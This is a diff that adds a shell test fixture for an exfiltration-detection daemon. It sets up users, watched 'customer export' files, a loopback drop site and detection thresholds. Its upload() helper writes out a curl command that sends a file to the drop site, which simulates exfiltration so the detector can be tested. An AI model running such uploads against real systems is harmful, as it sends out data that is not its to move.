@@ -1,0 +1,73 @@
+# SPDX-License-Identifier: GPL-2.0-only
+# What the lineage tests share: people, customer exports under a watched tree, a shared
+# folder, a drop site on 127.200.10.77:18080 (egress; the allowlist keeps 127.0.0.0/9, so
+# other tests' loopback traffic on the same machine is not egress here), a config whose
+# thresholds every scenario stays under except detect.exfil, the daemon with its own
+# label pin directory, and alert queries. Source after itest.sh; LINEAGE_SERVICE names a
+# source service.
+
+DROP=127.200.10.77:18080
+SRC=$T/src
+SHARE=$T/share
+mkdir -p "$SRC" "$SHARE"
+chmod a+rx "$T"
+chmod 1777 "$SHARE"
+for u in "alice 1101" "bob 1102" "carol 1103" "dave 1104" "erin 1105" "frank 1106" \
+	"grace 1107" "heidi 1108"; do
+	ensure_user $u
+done
+# Customer exports that do not compress away (gzip keeps about 3/4 of them): 3 MiB each,
+# plus a 96 KiB extract.
+for f in part1 part2 part3; do
+	head -c $((3 * 1024 * 1024 * 3 / 4)) /dev/urandom | base64 -w 76 >"$SRC/customers-$f.csv"
+done
+head -c $((96 * 1024 * 3 / 4)) /dev/urandom | base64 -w 76 >"$SRC/customers-small.csv"
+chmod -R a+rX "$SRC"
+
+python3 "$LIB/dropsite.py" --addr "${DROP%:*}" --port "${DROP#*:}" --count "$T/drop.count" \
+	>"$T/drop.out" 2>&1 &
+itest_on_exit "kill $!"
+wait_until 30 grep -q ready "$T/drop.out" || die "drop site"
+
+cat >"$T/exfilmon.yaml" <<YAML
+sources:
+  paths: ["$SRC"]
+  services: [${LINEAGE_SERVICE:+"$LINEAGE_SERVICE"}]
+egress:
+  allow: ["127.0.0.0/9"]
+detect:
+  window: 10m
+  bulk_read: 50MiB
+  bulk_objects: 2000
+  exfil: 1MiB
+  lookback: 1h
+  staging: 50MiB
+  drip: 200MiB/24h
+output:
+  alerts: $T/alerts.jsonl
+  evidence: $T/evidence
+agent:
+  state_dir: $T/state
+  poll_interval: 200ms
+YAML
+# Our own pin directory: a daemon of another test may be running beside this one.
+export EXFILMON_PIN_DIR=/sys/fs/bpf/exfilmon-test-lineage-$$
+itest_on_exit "rm -rf $EXFILMON_PIN_DIR"
+start_daemon() {
+	rm -f "$T/status.json"
+	"$BUILD/exfilmond" -c "$T/exfilmon.yaml" --status "$T/status.json" --stderr \
+		--log-level info 2>>"$T/daemon.log" &
+	DAEMON=$!
+	itest_on_exit "kill $DAEMON; wait $DAEMON"
+	wait_until 60 test -s "$T/status.json" || { cat "$T/daemon.log"; die "daemon did not start"; }
+}
+start_daemon
+
+# sensor_integrity alerts are left out: on a shared machine they can come from other
+# tests (another test's media mount learned into the sinks map, say), not from ours.
+alerts() { python3 "$LIB/alerts.py" "$T/alerts.jsonl" --exclude-rule sensor_integrity "$@"; }
+derived() { alerts count --rule derived_exfiltration "$@"; }
+# wait_alert ARGS...: until a derived_exfiltration alert matching ARGS is there (5 s, the
+# issue's latency target, plus slack for a loaded 2-core machine).
+wait_alert() { wait_until 15 test "$(derived "$@")" -ge 1; }
+upload() { echo "curl -sS -T $1 http://$DROP/upload -o /dev/null"; }
